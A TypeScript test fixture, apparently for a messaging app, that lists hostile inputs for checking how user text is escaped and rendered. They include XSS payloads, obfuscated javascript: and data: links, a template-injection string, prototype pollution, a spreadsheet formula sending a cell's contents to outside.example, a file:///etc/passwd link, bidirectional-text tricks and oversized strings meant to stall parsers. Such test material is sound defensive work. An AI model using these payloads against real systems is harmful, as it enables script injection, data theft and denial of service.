/** What somebody who means harm writes. Each text holds the word `needle`, by which a search finds it. */
export interface HostileText {
  readonly what: string;
  readonly text: string;
}

/** Calls what only a script could call. */
const ran = (how: string) => `ran('${how}')`;

/** Markup: everything of it is text, to be read as it was typed. */
export const MARKUP: readonly HostileText[] = [
  { what: 'a script', text: `needle <script>${ran('script')}</script>` },
  { what: 'a picture that fails', text: `needle <img src=x onerror="${ran('img')}">` },
  {
    what: 'a drawing that loads',
    text: `needle <svg/onload=${ran('svg')}><script>${ran('in svg')}</script>`,
  },
  { what: 'a frame', text: `needle "><iframe srcdoc="<script>parent.${ran('iframe')}</script>"></iframe>` },
  { what: 'a link as HTML', text: `needle <a href="javascript:${ran('a')}">click here</a>` },
  {
    what: 'entities',
    text: `needle &lt;script&gt;${ran('entity')}&lt;/script&gt; &#60;img src=x&#62; &amp;amp;`,
  },
  { what: 'closing tags', text: `needle </p></title></textarea></style>--><script>${ran('out')}</script>` },
  {
    what: 'a page that moves on',
    text: 'needle <meta http-equiv=refresh content="0;url=http://outside.example/">',
  },
  {
    what: 'a style sheet',
    text: 'needle <link rel=stylesheet href=http://outside.example/a><style>p{display:none}</style>',
  },
  {
    what: 'mathematics',
    text: `needle <math><mtext><mglyph><style></math><img src=x onerror=${ran('math')}>`,
  },
  {
    what: 'a template',
    text: `needle {{constructor.constructor("${ran('template')}")()}} \${${ran('literal')}}`,
  },
  { what: 'a prototype', text: 'needle {"__proto__":{"polluted":true}} constructor.prototype.polluted=true' },
];

/** In a spreadsheet it would ask for an address. */
export const FORMULA: HostileText = {
  what: 'a formula',
  text: '=HYPERLINK("http://outside.example/?"&A1,"needle")',
};

/** Addresses that would run something, show something, or read a file, were they links. */
const RUNNING = [
  `javascript:${ran('link')}`,
  `JaVaScRiPt:${ran('case')}`,
  `java\tscript:${ran('tab')}`,
  `java\nscript:${ran('line')}`,
  ` \u0001javascript:${ran('control')}`,
  `javascript\u200b:${ran('zero width')}`,
  `java%73cript:${ran('percent')}`,
  `&#106;avascript&colon;${ran('entity')}`,
  `javascript://example.org/%0a${ran('comment')}`,
  `data:text/html,<script>${ran('data')}</script>`,
  'data:text/html;base64,PHNjcmlwdD5yYW4oJ2RhdGEnKTwvc2NyaXB0Pg==',
  'vbscript:msgbox("needle")',
  'file:///etc/passwd',
  'blob:http://outside.example/0d7a0d2e',
  'view-source:javascript:alert(1)',
];

/** Each as it stands, as Markdown's links, and as a picture of Markdown's. */
export const LINKS: readonly HostileText[] = RUNNING.map((address) => ({
  what: JSON.stringify(address),
  text: `needle ${address} [click](${address}) <${address}> ![see](${address}) [a]: ${address}`,
}));

/** Turns what follows around, and never turns it back; ends an isolation that it did not begin. */
const TURN = '\u202e\u2067\u2069\u2069\u202d';

/** Words that go from right to left, and take what follows along where nothing keeps them apart. */
export const LEFTWARDS: HostileText = { what: 'words from right to left', text: 'שלום needle 12 (a)' };

/** Texts that act on what stands around them. */
export const ACTING: readonly HostileText[] = [
  { what: 'a turn that is not ended', text: `needle ${TURN}drowssap` },
  LEFTWARDS,
  { what: 'ends of turns that were not begun', text: 'needle \u2069\u202c\u2069\u202c\u2069 behind' },
  {
    what: 'control characters',
    text: `needle ${String.fromCharCode(...Array(32).keys())}\u007f\u0085\u009b31m`,
  },
  { what: 'halves of characters', text: 'needle \ud800 and \udfff and \udfff\ud800' },
  { what: 'no characters', text: 'needle \ufeff\ufffe\uffff\u{1ffff}\u{e0041}\u2028\u2029' },
  { what: 'nothing to be seen', text: `${'\u200b\u2060\ufeff\u3164\u00ad'.repeat(200)}needle` },
  { what: 'marks on one letter', text: `needle a${'\u0301\u0310\u0489\u20dd'.repeat(2_500)}` },
  { what: 'marks below one letter', text: `needle a${'\u0316\u0323\u0330\u0345'.repeat(2_500)}` },
];

/** As much as one message takes, in characters; what JSON escapes counts more. */
const MUCH = 500_000;
const filled = (begin: string, piece: string, length = MUCH) =>
  begin + piece.repeat(Math.floor((length - begin.length) / piece.length));

/** Texts that take long for who is careless. */
export const LONG: readonly HostileText[] = [
  { what: 'one word of 500 KB', text: filled('needle ', 'a') },
  { what: 'one line of 500 KB', text: filled('needle ', 'many words in one line ') },
  { what: '60,000 lines', text: filled('needle', '\\nline'.replace('\\n', '\n'), 300_000) },
  { what: '10,000 quotes in one another', text: `${'>'.repeat(10_000)} needle` },
  { what: 'lists in one another', text: `needle\n${'- '.repeat(5_000)}\n${'1. '.repeat(3_000)}` },
  { what: '10,000 stars', text: `needle ${'*'.repeat(10_000)}` },
  { what: 'stars that open and never close', text: filled('needle ', '*a _b ~~c **d ', 15_000) },
  { what: 'code that never ends', text: filled('needle ', '`a ``b ```c ', 15_000) },
  { what: 'blocks of code', text: filled('needle\n', '```\n', 15_000) },
  { what: 'brackets in one another', text: `needle ${'['.repeat(5_000)}${'](x)'.repeat(2_500)}` },
  { what: 'an address that is all closed', text: filled('needle http://outside.example/', ')', 400_000) },
  { what: '100,000 mentions', text: filled('needle ', '@Al ', 400_000) },
  { what: 'mentions between stars', text: filled('needle ', '@Al *b* ', 400_000) },
  { what: 'as many addresses as fit', text: filled('needle ', 'http://a ') },
];
